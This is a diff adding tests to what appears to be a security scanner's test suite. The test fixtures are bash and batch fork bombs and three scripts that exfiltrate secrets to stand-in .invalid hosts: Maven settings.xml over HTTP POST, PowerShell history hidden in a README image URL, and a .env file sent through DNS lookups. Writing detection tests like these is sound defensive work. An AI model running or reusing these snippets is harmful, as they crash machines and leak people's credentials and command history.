@@ -701,3 +701,84 @@ test('services and Windows prompts switched off in their configuration: UAC in a
   const spring = ['management:', '  endpoint:', '    shutdown:', '      enabled: true', ''].join('\n');
   assert.deepEqual(loud({ 'src/main/resources/application.yml': spring }), ['error sentinel/defence-off src/main/resources/application.yml:3']);
 });
+
+// ---- round 14e ----
+
+test('fork bombs: a shell function that starts itself in the background inside its own endless loop; a batch file that starts itself twice in a goto loop', () => {
+  const sh = ['#!/usr/bin/env bash', 'worker() {', '  while true; do', '    date >> /tmp/ticks', '    worker &', '  done', '}', 'worker', ''].join('\n');
+  assert.deepEqual(
+    loud({ 'scripts/flood.sh': sh }).filter((f) => f.includes('resource-flood')),
+    ['error sentinel/resource-flood scripts/flood.sh:2'],
+  );
+  // (a worker pool started once, outside the loop, is no bomb)
+  const pool = ['#!/usr/bin/env bash', 'worker() {', '  while true; do', '    sleep 5', '  done', '}', 'worker &', 'worker &', 'wait', ''].join('\n');
+  assert.deepEqual(
+    loud({ 'scripts/pool.sh': pool }).filter((f) => f.includes('resource-flood')),
+    [],
+  );
+  const cmd = [
+    '@echo off',
+    ':monitor',
+    'tasklist | find /i "worker.exe" >nul',
+    'start "" /min cmd /c "%~f0" monitor',
+    'start "" /min cmd /c "%~f0" monitor',
+    'goto monitor',
+    '',
+  ].join('\r\n');
+  assert.deepEqual(
+    loud({ 'scripts/watchdog.cmd': cmd }).filter((f) => f.includes('resource-flood')),
+    ['error sentinel/resource-flood scripts/watchdog.cmd:2'],
+  );
+});
+
+test("flows from build tools' credential files and PowerShell's history: ~/.m2/settings.xml through a name for ~/.m2, PSReadLine's history into an image URL, a .env named by an option's default sent over DNS", () => {
+  const py = [
+    'import urllib.request',
+    'from pathlib import Path',
+    'M2 = Path.home() / ".m2"',
+    'URL = "https://validator.m2-tools.invalid/api/v1/check"',
+    'def main():',
+    '    body = (M2 / "settings.xml").read_bytes()',
+    '    req = urllib.request.Request(URL, data=body, method="POST")',
+    '    urllib.request.urlopen(req)',
+    '',
+  ].join('\n');
+  assert.deepEqual(
+    loud({ 'scripts/migrate.py': py }).filter((f) => f.includes('exfiltration')),
+    ['error sentinel/secret-exfiltration scripts/migrate.py:7'],
+  );
+  const ps = [
+    '$hist = Get-Content (Get-PSReadLineOption).HistorySavePath -Tail 200',
+    '$card = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes(($hist -join "`n")))',
+    '$badge = "https://card.render.invalid/v1/setup.svg?d=$card"',
+    'Set-Content README.md "![setup card]($badge)"',
+    '',
+  ].join('\n');
+  assert.deepEqual(
+    loud({ 'scripts/Report.ps1': ps }).filter((f) => f.includes('exfiltration')),
+    ['error sentinel/secret-exfiltration scripts/Report.ps1:4'],
+  );
+  const dns = [
+    'import argparse, binascii, socket',
+    'def load_env(path):',
+    '    env = {}',
+    '    with open(path) as f:',
+    '        for line in f:',
+    '            k, _, v = line.partition("=")',
+    '            env[k] = v',
+    '    return env',
+    'def main():',
+    '    ap = argparse.ArgumentParser()',
+    '    ap.add_argument("--env", default=".env")',
+    '    args = ap.parse_args()',
+    '    env = load_env(args.env)',
+    '    hexed = binascii.hexlify(str(env).encode()).decode()',
+    '    for i in range(0, len(hexed), 60):',
+    '        socket.gethostbyname(f"{hexed[i:i + 60]}.t.fleet.invalid")',
+    '',
+  ].join('\n');
+  assert.deepEqual(
+    loud({ 'scripts/inventory.py': dns }).filter((f) => f.includes('exfiltration')),
+    ['error sentinel/secret-exfiltration scripts/inventory.py:16'],
+  );
+});
